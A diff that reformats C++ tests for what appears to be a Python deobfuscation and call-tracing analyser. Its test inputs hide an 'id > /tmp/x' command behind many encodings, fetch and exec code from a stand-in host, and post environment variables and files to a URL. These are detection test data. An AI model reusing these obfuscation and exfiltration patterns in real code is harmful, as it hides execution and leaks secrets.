@@ -50,13 +50,18 @@ INSTANTIATE_TEST_SUITE_P(
     testing::Values(
         Wrapping{"Base64", "import base64\nexec(base64.b64decode('" + kBase64 + "'))"},
         Wrapping{"FromImport", "from base64 import b64decode as d\nexec(d(b'" + kBase64 + "').decode())"},
-        Wrapping{"Variables", "import base64\na = '" + kBase64 + "'\nb = base64.b64decode\nc = exec\nc(b(a))"},
+        Wrapping{"Variables",
+                 "import base64\na = '" + kBase64 + "'\nb = base64.b64decode\nc = exec\nc(b(a))"},
         Wrapping{"Hex", "exec(bytes.fromhex('" + kHex + "'))"},
         Wrapping{"Unhexlify", "import binascii\nexec(binascii.unhexlify('" + kHex + "').decode('utf-8'))"},
         Wrapping{"Zlib",
-                 "import zlib,base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFGwU9AvyS3Qr1DX5AIA4pkLeA==')))"},
-        Wrapping{"Reversed", "exec(" + std::string("\"\\n)'x/pmt/ > di'(metsys.so\\nso tropmi\"[::-1]") + ")"},
-        Wrapping{"Rot13", "import codecs\nexec(codecs.decode(\"vzcbeg bf\\nbf.flfgrz('vq > /gzc/k')\\n\", 'rot13'))"},
+                 "import "
+                 "zlib,base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/"
+                 "WK64sLknN1VDPTFGwU9AvyS3Qr1DX5AIA4pkLeA==')))"},
+        Wrapping{"Reversed",
+                 "exec(" + std::string("\"\\n)'x/pmt/ > di'(metsys.so\\nso tropmi\"[::-1]") + ")"},
+        Wrapping{"Rot13",
+                 "import codecs\nexec(codecs.decode(\"vzcbeg bf\\nbf.flfgrz('vq > /gzc/k')\\n\", 'rot13'))"},
         Wrapping{"Replace", "exec(\"impXXort os\\nos.sysXXtem('id > /tmp/x')\\n\".replace('XX', ''))"},
         Wrapping{"Concatenated", "exec('import os\\n' + \"os.sys\" + \"tem('id > /tmp/x')\\n\")"},
         Wrapping{"Joined", "exec(''.join(['import os\\n', \"os.system('id > /tmp/x')\", '\\n']))"},
@@ -64,36 +69,48 @@ INSTANTIATE_TEST_SUITE_P(
         Wrapping{"Format", "exec('import {0}\\n{0}.system({1!r})\\n'.format('os', 'id > /tmp/x'))"},
         Wrapping{"FString", "m = 'os'\nexec(f'import {m}\\n{m}.system({\"id > /tmp/x\"!r})\\n')"},
         Wrapping{"ChrJoin",
-                 "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
+                 "exec(''.join(chr(c) for c in "
+                 "[105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
                  "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10]))"},
-        Wrapping{"MapChr",
-                 "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
-                 "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10])))"},
+        Wrapping{
+            "MapChr",
+            "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
+            "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10])))"},
         Wrapping{"BytesList",
                  "exec(bytes([105,109,112,111,114,116,32,111,115,10,111,115,46,115,121,115,116,101,"
                  "109,40,39,105,100,32,62,32,47,116,109,112,47,120,39,41,10]))"},
         Wrapping{"XorGenerator",
                  "k = 1\nexec(bytes(b ^ k for b in "
-                 "bytes.fromhex('686c716e7375216e720b6e722f72787275646c29266865213f212e756c712e7926280b')).decode())"},
-        Wrapping{"UserFunction",
-                 "def d(s, k):\n    out = ''\n    for i in range(len(s)):\n        out += chr(ord(s[i]) - k)\n"
-                 "    return out\n"
-                 "exec(d(\"jnqpsu!pt\\x0bpt/tztufn)(je!?!0unq0y(*\\x0b\", 1))"},
-        Wrapping{"GetattrBuiltins", "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('" + kBase64 + "'))"},
+                 "bytes.fromhex('686c716e7375216e720b6e722f72787275646c29266865213f212e756c712e7926280b'))."
+                 "decode())"},
+        Wrapping{
+            "UserFunction",
+            "def d(s, k):\n    out = ''\n    for i in range(len(s)):\n        out += chr(ord(s[i]) - k)\n"
+            "    return out\n"
+            "exec(d(\"jnqpsu!pt\\x0bpt/tztufn)(je!?!0unq0y(*\\x0b\", 1))"},
+        Wrapping{"GetattrBuiltins",
+                 "import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('" + kBase64 + "'))"},
         Wrapping{"DunderImport", "exec(__import__('base64').b64decode('" + kBase64 + "'))"},
-        Wrapping{"Globals", "import base64\nglobals()['__builtins__'].__dict__['exec'](base64.b64decode('" + kBase64 + "'))"},
-        Wrapping{"Lambda",
-                 "_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec((_)(b'" +
-                     std::string(kBase64.rbegin(), kBase64.rend()) + "'))"},
-        Wrapping{"Compile", "import base64\nexec(compile(base64.b64decode('" + kBase64 + "'), '<string>', 'exec'))"},
-        Wrapping{"InClass",
-                 "import base64\nclass A:\n    def __init__(self):\n        self.p = '" + kBase64 +
-                     "'\n    def run(self):\n        exec(base64.b64decode(self.p))\nA().run()"},
-        Wrapping{"InTry", "import base64\ntry:\n    exec(base64.b64decode('" + kBase64 + "'))\nexcept:\n    pass"},
-        Wrapping{"Base32", "import base64\nexec(base64.b32decode('NFWXA33SOQQG64YKN5ZS443ZON2GK3JIE5UWIIB6EAXXI3LQF54COKIK'))"},
-        Wrapping{"Base85", "import base64\nexec(base64.b85decode('X>D+Ca&#bXa|&;BE^~QvbY*QQCuw9LJ|Hi2ZE!DmCn*X'))"},
+        Wrapping{"Globals", "import base64\nglobals()['__builtins__'].__dict__['exec'](base64.b64decode('" +
+                                kBase64 + "'))"},
+        Wrapping{"Lambda", "_ = lambda __ : __import__('base64').b64decode(__[::-1])\nexec((_)(b'" +
+                               std::string(kBase64.rbegin(), kBase64.rend()) + "'))"},
+        Wrapping{"Compile",
+                 "import base64\nexec(compile(base64.b64decode('" + kBase64 + "'), '<string>', 'exec'))"},
+        Wrapping{"InClass", "import base64\nclass A:\n    def __init__(self):\n        self.p = '" + kBase64 +
+                                "'\n    def run(self):\n        exec(base64.b64decode(self.p))\nA().run()"},
+        Wrapping{"InTry",
+                 "import base64\ntry:\n    exec(base64.b64decode('" + kBase64 + "'))\nexcept:\n    pass"},
+        Wrapping{
+            "Base32",
+            "import "
+            "base64\nexec(base64.b32decode('NFWXA33SOQQG64YKN5ZS443ZON2GK3JIE5UWIIB6EAXXI3LQF54COKIK'))"},
+        Wrapping{"Base85",
+                 "import base64\nexec(base64.b85decode('X>D+Ca&#bXa|&;BE^~QvbY*QQCuw9LJ|Hi2ZE!DmCn*X'))"},
         Wrapping{"Python2", "exec '" + kBase64 + "'.decode('base64')"},
-        Wrapping{"PythonC", "import subprocess\nsubprocess.run(['python3', '-c', \"import os\\nos.system('id > /tmp/x')\\n\"])"}),
+        Wrapping{"PythonC",
+                 "import subprocess\nsubprocess.run(['python3', '-c', \"import os\\nos.system('id > "
+                 "/tmp/x')\\n\"])"}),
     [](const testing::TestParamInfo<Wrapping>& wrapping) { return wrapping.param.name; });
 
 TEST(Layers, AreNestedAndSayHow) {
@@ -142,29 +159,30 @@ TEST_P(Resolves, TheCallee) {
 
 INSTANTIATE_TEST_SUITE_P(
     Names, Resolves,
-    testing::Values(Resolution{"import os\nos.system(x)", "os.system"},
-                    Resolution{"import os as o\no.system(x)", "os.system"},
-                    Resolution{"from os import system\nsystem(x)", "os.system"},
-                    Resolution{"from os import *\nsystem(x)\nos.popen(y)", "os.popen"},
-                    Resolution{"import os\ngetattr(os, 'sys' + 'tem')(x)", "os.system"},
-                    Resolution{"import os\nos.__dict__['system'](x)", "os.system"},
-                    Resolution{"import sys\nsys.modules['os'].system(x)", "os.system"},
-                    Resolution{"__import__('os').system(x)", "os.system"},
-                    Resolution{"import importlib\nimportlib.import_module('os').system(x)", "os.system"},
-                    Resolution{"import os\nd = {'a': os.system}\nd['a'](x)", "os.system"},
-                    Resolution{"import os\nf = [os.system][0]\nf(x)", "os.system"},
-                    Resolution{"import urllib2\nurllib2.urlopen(x)", "urllib.request.urlopen"},
-                    Resolution{"import posix\nposix.system(x)", "os.system"},
-                    Resolution{"import builtins\nbuiltins.eval(x)", "eval"},
-                    Resolution{"eval(\"__import__('os')\").system(x)", "os.system"},
-                    Resolution{"import socket\ns = socket.socket()\ns.connect(x)", "socket.socket().connect"},
-                    Resolution{"import socket\ndef f():\n  s = socket.socket()\n  return s\nf().connect(x)",
-                               "socket.socket().connect"},
-                    Resolution{"import requests\nwith requests.Session() as s:\n  s.get(x)", "requests.Session().get"},
-                    Resolution{"import socket\nclass C:\n  def __init__(self):\n    self.s = socket.socket()\n"
-                               "  def go(self):\n    self.s.connect(x)\n",
-                               "socket.socket().connect"},
-                    Resolution{"def f(cb):\n  cb.send(1)\n", "?.send"}));
+    testing::Values(
+        Resolution{"import os\nos.system(x)", "os.system"},
+        Resolution{"import os as o\no.system(x)", "os.system"},
+        Resolution{"from os import system\nsystem(x)", "os.system"},
+        Resolution{"from os import *\nsystem(x)\nos.popen(y)", "os.popen"},
+        Resolution{"import os\ngetattr(os, 'sys' + 'tem')(x)", "os.system"},
+        Resolution{"import os\nos.__dict__['system'](x)", "os.system"},
+        Resolution{"import sys\nsys.modules['os'].system(x)", "os.system"},
+        Resolution{"__import__('os').system(x)", "os.system"},
+        Resolution{"import importlib\nimportlib.import_module('os').system(x)", "os.system"},
+        Resolution{"import os\nd = {'a': os.system}\nd['a'](x)", "os.system"},
+        Resolution{"import os\nf = [os.system][0]\nf(x)", "os.system"},
+        Resolution{"import urllib2\nurllib2.urlopen(x)", "urllib.request.urlopen"},
+        Resolution{"import posix\nposix.system(x)", "os.system"},
+        Resolution{"import builtins\nbuiltins.eval(x)", "eval"},
+        Resolution{"eval(\"__import__('os')\").system(x)", "os.system"},
+        Resolution{"import socket\ns = socket.socket()\ns.connect(x)", "socket.socket().connect"},
+        Resolution{"import socket\ndef f():\n  s = socket.socket()\n  return s\nf().connect(x)",
+                   "socket.socket().connect"},
+        Resolution{"import requests\nwith requests.Session() as s:\n  s.get(x)", "requests.Session().get"},
+        Resolution{"import socket\nclass C:\n  def __init__(self):\n    self.s = socket.socket()\n"
+                   "  def go(self):\n    self.s.connect(x)\n",
+                   "socket.socket().connect"},
+        Resolution{"def f(cb):\n  cb.send(1)\n", "?.send"}));
 
 const Fact* find_call(const Program& program, std::string_view symbol) {
   for (const Layer& layer : program.layers) {
@@ -201,17 +219,23 @@ INSTANTIATE_TEST_SUITE_P(
     Sources, Origin,
     testing::Values(
         Flowing{"import requests\nexec(requests.get('http://h.example.invalid').text)", "exec", kFromNetwork},
-        Flowing{"import urllib.request as u\nd = u.urlopen(x).read().decode()\neval(d)", "eval", kFromNetwork},
-        Flowing{"import os, requests\nrequests.post(x, json=dict(os.environ))", "requests.post", kFromEnvironment},
-        Flowing{"import os, requests\nrequests.post(x, data={'e': os.environ['K']})", "requests.post", kFromEnvironment},
-        Flowing{"import socket, requests\nrequests.post(x, data=socket.gethostname())", "requests.post", kFromHost},
+        Flowing{"import urllib.request as u\nd = u.urlopen(x).read().decode()\neval(d)", "eval",
+                kFromNetwork},
+        Flowing{"import os, requests\nrequests.post(x, json=dict(os.environ))", "requests.post",
+                kFromEnvironment},
+        Flowing{"import os, requests\nrequests.post(x, data={'e': os.environ['K']})", "requests.post",
+                kFromEnvironment},
+        Flowing{"import socket, requests\nrequests.post(x, data=socket.gethostname())", "requests.post",
+                kFromHost},
         Flowing{"import requests\nrequests.post(x, data=open('f').read())", "requests.post", kFromFile},
         Flowing{"import os, sys\nos.system(sys.argv[1])", "os.system", kFromArgument},
-        Flowing{"import base64\nexec(base64.b64decode(open(__file__).read()))", "exec", kFromDecoded | kFromFile},
+        Flowing{"import base64\nexec(base64.b64decode(open(__file__).read()))", "exec",
+                kFromDecoded | kFromFile},
         Flowing{"import os\ndef f(c):\n  os.system(c)\n", "os.system", kFromParameter}));
 
 TEST(Context, SaysWhatCannotRun) {
-  const char* scripts[] = {"import os\nif False:\n  os.system(x)\n", "import os, sys\nsys.exit()\nos.system(x)\n",
+  const char* scripts[] = {"import os\nif False:\n  os.system(x)\n",
+                           "import os, sys\nsys.exit()\nos.system(x)\n",
                            "import os\ndef f():\n  return 1\n  os.system(x)\nf()\n"};
   for (const char* script : scripts) {
     const Program program = unwrap(script);
@@ -246,12 +270,9 @@ TEST(Bounds, AreDiagnosticsAndNotHangs) {
   Limits limits;
   limits.max_steps = 200'000;
   const char* scripts[] = {
-      "x = 'a'\nwhile True:\n  x = x + x\n",
-      "x = 'a' * 10**12\nexec(x)\n",
-      "s = 0\nfor i in range(10**9):\n  s += i\n",
-      "def f(n):\n  return f(n - 1) + f(n - 2)\nf(90)\n",
-      "a = [1]\nfor i in range(100):\n  a = a + a\n",
-      "x = '\\0'.join('a' * 9999999)\n",
+      "x = 'a'\nwhile True:\n  x = x + x\n",          "x = 'a' * 10**12\nexec(x)\n",
+      "s = 0\nfor i in range(10**9):\n  s += i\n",    "def f(n):\n  return f(n - 1) + f(n - 2)\nf(90)\n",
+      "a = [1]\nfor i in range(100):\n  a = a + a\n", "x = '\\0'.join('a' * 9999999)\n",
   };
   for (const char* script : scripts) {
     const Program program = unwrap(script, LayerKind::Python, limits);
@@ -267,9 +288,8 @@ TEST(Bounds, OnDepthAndNumberOfLayers) {
   for (int i = 0; i < 9; ++i) script += "exec('x = " + std::to_string(i) + "')\n";
   const Program program = unwrap(script, LayerKind::Python, limits);
   EXPECT_EQ(program.layers.size(), 3u);
-  EXPECT_TRUE(std::any_of(program.diagnostics.begin(), program.diagnostics.end(), [](const auto& d) {
-    return d.code == diagnostic::Code::TooManyLayers;
-  }));
+  EXPECT_TRUE(std::any_of(program.diagnostics.begin(), program.diagnostics.end(),
+                          [](const auto& d) { return d.code == diagnostic::Code::TooManyLayers; }));
 }
 
 TEST(Bounds, AQuineEnds) {
